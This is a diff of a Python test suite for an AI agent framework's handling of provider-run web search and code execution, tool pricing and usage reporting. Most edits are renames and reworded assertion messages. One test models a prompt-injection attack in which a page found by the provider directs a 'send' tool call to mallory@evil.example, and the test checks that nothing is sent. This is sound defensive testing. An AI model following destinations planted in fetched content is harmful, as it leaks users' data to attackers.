@@ -57,11 +57,11 @@ class House:
 
     def agent(self, wire: str = "anthropic", price: Any = None, **more: Any) -> Agent:
         url = f"http://127.0.0.1:{self.provider.port}" + ("/v1" if wire == "openai" else "")
-        place = {"wire": wire, "base_url": url, "api_key": "${secret:MADE_UP}"}
+        values = {"wire": wire, "base_url": url, "api_key": "${secret:MADE_UP}"}
         options = {"provider_tools": SEARCH, "fleet": {"models": {"mine:big": {"price": price or PRICE}}}, **more}
         return self.bench.agent(
             model="mine:big",
-            providers={"mine": place},
+            providers={"mine": values},
             secrets={"MADE_UP": self.provider.key},
             clock=SystemClock(),
             **options,
@@ -89,7 +89,7 @@ async def test_searches_are_held_at_their_most_and_paid_as_they_are_reported(hou
     assert isinstance(summary, Facts)
     assert (
         dict(summary.facts)["run by the provider"]
-        == "web_search 2 times: what was asked and found there, the guard did not see"
+        == "web_search 2 times: the guard saw neither their queries nor their results"
     )
 
 
@@ -117,13 +117,13 @@ async def test_runs_of_code_are_paid_by_their_own_price(house: House) -> None:
 
 
 async def test_code_that_google_runs_is_paid_as_tokens(house: House) -> None:
-    parts = [
+    values = [
         {"executableCode": {"language": "PYTHON", "code": "print(6 * 7)"}},
         {"codeExecutionResult": {"outcome": "OUTCOME_OK", "output": "42"}},
         {"text": "42"},
     ]
     counted = {"promptTokenCount": 1_000, "toolUsePromptTokenCount": 200, "candidatesTokenCount": 10}
-    candidate = {"content": {"role": "model", "parts": parts}, "index": 0, "finishReason": "STOP"}
+    candidate = {"content": {"role": "model", "parts": values}, "index": 0, "finishReason": "STOP"}
     house.provider.sends(200, {"candidates": [candidate], "usageMetadata": {**counted, "totalTokenCount": 1_210}})
     place = {"base_url": f"http://127.0.0.1:{house.provider.port}", "api_key": "${secret:MADE_UP}"}
     agent = house.bench.agent(
@@ -146,7 +146,7 @@ async def test_what_has_no_price_is_not_begun(house: House, tool: str, why: str)
     agent = house.agent(price={"input": 1, "output": 10}, provider_tools={tool: {"max_uses": 2}})
     refused = await agent.run("How is the weather?")
     assert (refused.ok, house.provider.asked) == (False, [])
-    assert f"{why}, and what that costs is not listed" in refused.sentence
+    assert f"{why}, and the price of that is not listed" in refused.sentence
 
 
 @pytest.mark.parametrize("declared", [{}, {"code_execution": {"max_uses": 1}}], ids=["none", "another"])
@@ -163,7 +163,7 @@ async def test_what_a_provider_does_undeclared_is_no_answer_and_is_paid(house: H
 
 async def test_what_a_provider_read_unseen_decides_no_destination(house: House) -> None:
     """The attack: a page that the provider found says where to send things to."""
-    sent: list[str] = []
+    texts: list[str] = []
     call = {"type": "tool_use", "id": "t1", "name": "send", "input": {"to": "mallory@evil.example"}}
     house.provider.sends(200, answer([*SEARCHED, call], searches=1, stop="tool_use"))
     house.provider.then()
@@ -173,11 +173,11 @@ async def test_what_a_provider_read_unseen_decides_no_destination(house: House) 
     @agent.tool(level="SAFE", reads="nothing", reach="others", arguments={"to": "destination:address"})
     async def send(to: str) -> str:
         """Send a letter."""
-        sent.append(to)
+        texts.append(to)
         return "sent"
 
     await agent.run("Send the report where it belongs.")
-    assert sent == []
+    assert texts == []
 
 
 async def test_a_turn_that_the_provider_paused_goes_on(house: House) -> None:
@@ -199,8 +199,8 @@ def test_last_words_are_asked_for_without_them() -> None:
 @pytest.mark.parametrize(
     ("wire", "tools", "why"),
     [
-        ("openai", SEARCH, "has no `web_search` that can be held to a limit: over the wire openai"),
-        ("google", SEARCH, "the tools of a provider are `code_execution`"),
+        ("openai", SEARCH, "cannot use `web_search` with a limit: the provider tools of the wire openai"),
+        ("google", SEARCH, "the provider tools of the wire google are `code_execution`"),
         ("anthropic", {"image_generation": {"max_uses": 1}}, "provider_tools"),
         ("anthropic", {"web_search": {}}, "max_uses"),
         ("anthropic", {"web_search": {"max_uses": 0}}, "max_uses"),
